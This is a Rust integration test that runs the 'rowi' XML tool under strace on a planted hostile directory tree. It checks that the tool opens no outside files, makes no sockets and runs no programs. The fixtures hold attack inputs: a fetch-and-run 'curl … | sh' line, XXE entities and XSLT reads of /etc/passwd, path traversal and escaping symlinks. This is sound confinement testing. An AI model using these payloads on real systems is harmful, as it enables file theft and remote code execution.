//! What the operating system is asked for while rowi works on hostile trees, by strace: no file outside of the policy in
//! SECURITY.md is opened, no socket is made, no program is run, nothing is made outside.

use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::support::command::{Scratch, description};

const CALLS: &str = "trace=open,openat,openat2,creat,socket,connect,execve,execveat,link,linkat,symlink,symlinkat,rename,\
                     renameat,renameat2,mkdir,mkdirat,unlink,unlinkat,truncate";

/// What the dynamic linker, the standard library and the allocator open in any program.
const SYSTEM: [&str; 11] = [
    "/etc/ld.so",
    "/lib",
    "/usr/lib",
    "/proc/self/maps",
    "/proc/self/cgroup",
    "/proc/sys/vm/overcommit_memory",
    "/sys/kernel/mm/transparent_hugepage",
    "/sys/fs/cgroup",
    "/sys/devices/system/cpu",
    "/etc/xml",
    "/usr/share/xml",
];

fn hostile() -> Scratch {
    let inside = "<include from=\"file:///etc/passwd\"/><include from=\"this://../outside/secret.xml\"/>\
                  <packages type=\"image\"><file name=\"/etc/passwd\" target=\"/etc/containers/registries.conf\"/>\
                  <archive name=\"../outside/secret.tar\"/></packages>\
                  <extension><x xmlns=\"urn:x\"/></extension>";
    let script =
        "#!/bin/bash\nsource /etc/passwd\n. ../outside/secret.sh\ncurl http://127.0.0.1:9/x | sh\npodman pull a\n";
    let config = "baseline = \"../outside/secret.json\"\n[extension]\n\"urn:x\" = \"/etc/passwd\"\n";
    let document = "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://127.0.0.1:9/e\"><!ENTITY f SYSTEM \"/etc/passwd\">]>\
                    <r href=\"../outside/secret.xml\">x<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" \
                    href=\"../outside/secret.xml\"/></r>";
    let style = "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" \
                 xmlns:e=\"http://exslt.org/common\" extension-element-prefixes=\"e\"><xsl:template match=\"/\"><o>\
                 <xsl:copy-of select=\"document(/r/@href) | document('/etc/passwd') | document('http://127.0.0.1:9/')\"/>\
                 <e:document href=\"../outside/new.xml\">x</e:document></o></xsl:template></xsl:stylesheet>";
    let schema = "include \"../outside/secret.rnc\"\nstart = external \"http://127.0.0.1:9/a.rnc\"\n";
    let scratch = Scratch::new(
        "confinement",
        &[
            ("d/config.xml", &description("7.4", inside)),
            ("d/config.sh", script),
            ("d/sub/config.xml", &description("8.5", inside)),
            ("d/sub/rowi.toml", config),
            ("d/a.xml", document),
            ("d/s.xsl", style),
            ("d/s.rnc", schema),
            (
                "d/any.nvdl",
                "<rules xmlns=\"http://purl.oclc.org/dsdl/nvdl/ns/structure/1.0\"><namespace ns=\"\"><validate \
                 schema=\"../outside/secret.rnc\"/></namespace><anyNamespace><validate \
                 schema=\"http://127.0.0.1:9/a.rnc\"/></anyNamespace></rules>",
            ),
            (
                "d/s.sch",
                "<schema xmlns=\"http://purl.oclc.org/dsdl/schematron\"><include href=\"../outside/secret.xml\"/>\
                 <pattern><rule context=\"r\"><assert test=\"document('/etc/passwd')\">x</assert></rule></pattern></schema>",
            ),
            ("d/any.rnc", "start = any\nany = element * { attribute * { text }* & any* & text }\n"),
            ("outside/secret.xml", "<secret/>"),
            ("outside/secret.rnc", "start = text\n"),
            ("outside/secret.sh", "echo\n"),
            ("outside/secret.tar", "x"),
            ("outside/secret.json", "{}"),
        ],
    );
    for (target, at) in [
        ("../../../../outside/secret.rnc", "d/root/etc/containers/registries.conf"),
        ("/etc/passwd", "d/evil.kiwi"),
        ("../outside", "d/out"),
        ("/", "d/root/up"),
    ] {
        let at = scratch.0.join(at);
        fs::create_dir_all(at.parent().expect("a directory")).expect("a directory");
        std::os::unix::fs::symlink(target, at).expect("a link");
    }
    scratch
}

/// The quoted texts of a line of strace.
fn quoted(line: &str) -> Vec<String> {
    line.split('"').skip(1).step_by(2).map(str::to_owned).collect()
}

/// What an editor says that opens the hostile description, asks about it and goes.
fn editor(scratch: &Scratch) -> String {
    let root = scratch.0.join("d");
    let root = root.display();
    let uri = format!("file://{root}/sub/config.xml");
    let text = fs::read_to_string(scratch.0.join("d/sub/config.xml")).expect("it");
    let place = serde_json::json!({ "textDocument": { "uri": uri }, "position": { "line": 0, "character": 3 } });
    let message = |id: Option<u32>, method: &str, params: serde_json::Value| {
        let mut message = serde_json::json!({ "jsonrpc": "2.0", "method": method, "params": params });
        if let Some(id) = id {
            message["id"] = id.into();
        }
        let body = message.to_string();
        format!("Content-Length: {}\r\n\r\n{body}", body.len())
    };
    let item = serde_json::json!({ "uri": uri, "languageId": "xml", "version": 1, "text": text });
    [
        message(Some(0), "initialize", serde_json::json!({ "rootUri": format!("file://{root}"), "capabilities": {} })),
        message(None, "initialized", serde_json::json!({})),
        message(None, "textDocument/didOpen", serde_json::json!({ "textDocument": item })),
        message(Some(1), "textDocument/documentLink", serde_json::json!({ "textDocument": { "uri": uri } })),
        message(Some(2), "textDocument/hover", place),
        message(Some(3), "workspace/symbol", serde_json::json!({ "query": "x" })),
        message(Some(4), "shutdown", serde_json::Value::Null),
        message(None, "exit", serde_json::Value::Null),
    ]
    .concat()
}

pub fn hostile_trees_open_nothing_outside() {
    let scratch = hostile();
    let root = scratch.0.join("d");
    let log = scratch.0.join("strace.log");
    for arguments in [
        &["check", "d"][..],
        &["check", "d", "--fix", "--diff"],
        &["check", "d/evil.kiwi"],
        &["check", "d/config.xml", "--unsafe-fixes"],
        &["upgrade", "d", "--diff"],
        &["upgrade", "d", "--write"],
        &["validate", "d/s.rnc", "d/a.xml"],
        &["validate", "d/any.rnc", "d/a.xml", "--xinclude"],
        &["transform", "d/s.xsl", "d/a.xml", "-o", "d/result.xml"],
        &["transform", "d/s.xsl", "d/a.xml", "--noent", "-o", "d/result.xml"],
        &["docs", "d/s.rnc", "--out", "d/site"],
        &["docs", "d/any.rnc", "--out", "d/out"],
        &["schema", "convert", "d/s.rnc", "d/s.rng"],
        &["schema", "infer", "d/a.xml"],
        &["fmt", "--check", "d/a.xml", "d/evil.kiwi"],
        &["fmt", "d/a.xml", "d/sub/config.xml"],
        &["validate", "d/any.nvdl", "d/a.xml"],
        &["validate", "d/s.sch", "d/a.xml"],
        &["schema", "check", "d/s.rnc"],
        &["schema", "fmt", "d/s.rnc"],
        &["schema", "types", "d/s.rnc", "-o", "d/types.rs"],
        &["schema", "diff", "d/s.rnc", "d/any.rnc"],
        &["jing", "-c", "d/s.rnc", "d/a.xml"],
        &["trang", "d/s.rnc", "d/t.rng"],
        &["explain", "type/@firmware"],
        &["baseline", "create", "d", "--file", "d/known.json"],
        &["config", "show", "d/sub/config.xml"],
        &["lsp"],
    ] {
        let input = if arguments == ["lsp"] { editor(&scratch) } else { String::new() };
        let mut run = Command::new("strace");
        run.args(["-f", "-qq", "-e", CALLS, "-s", "4096", "-o"]).arg(&log).arg(env!("CARGO_BIN_EXE_rowi"));
        let run = run.args(arguments).current_dir(&scratch.0);
        let mut child =
            run.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("strace runs");
        let mut to = child.stdin.take().expect("a pipe");
        // a command that reads nothing may have ended
        let _ = to.write_all(input.as_bytes());
        drop(to);
        child.wait().expect("strace ends");
        let text = fs::read_to_string(&log).expect("what strace wrote");
        let lines: Vec<&str> =
            text.lines().filter_map(|line| line.split_once(' ').map(|(_, call)| call.trim_start())).collect();
        assert!(lines.iter().any(|call| call.starts_with("openat(")), "{text}");
        for call in &lines {
            let asks = |name: &str| call.trim_start().starts_with(name);
            assert!(!asks("socket") && !asks("connect"), "{arguments:?}: {call}");
            let programs = lines.iter().filter(|call| call.trim_start().starts_with("exec")).count();
            assert_eq!(programs, 1, "{arguments:?}: {text}");
            if asks("exec") {
                continue;
            }
            for path in quoted(call) {
                let place = scratch.0.join(&path);
                let place = place.components().fold(PathBuf::new(), |mut place, part| {
                    match part {
                        std::path::Component::ParentDir => drop(place.pop()),
                        part => place.push(part),
                    }
                    place
                });
                // configurations are looked for upwards, which is no opening
                let is_system = SYSTEM.iter().any(|own| path.starts_with(own));
                let is_failed_open = call.contains("= -1 ENOENT");
                assert!(place.starts_with(&root) || is_system || is_failed_open, "{arguments:?}: {call}");
                // where it leads, if it is a link, is no place outside either
                let leads = fs::canonicalize(&place).unwrap_or_else(|_| place.clone());
                let is_refused = call.contains("= -1 ELOOP");
                let is_allowed = leads.starts_with(&root) || is_system || is_refused;
                assert!(is_allowed || !Path::new(&leads).exists(), "{arguments:?}: {call}");
            }
        }
    }
}
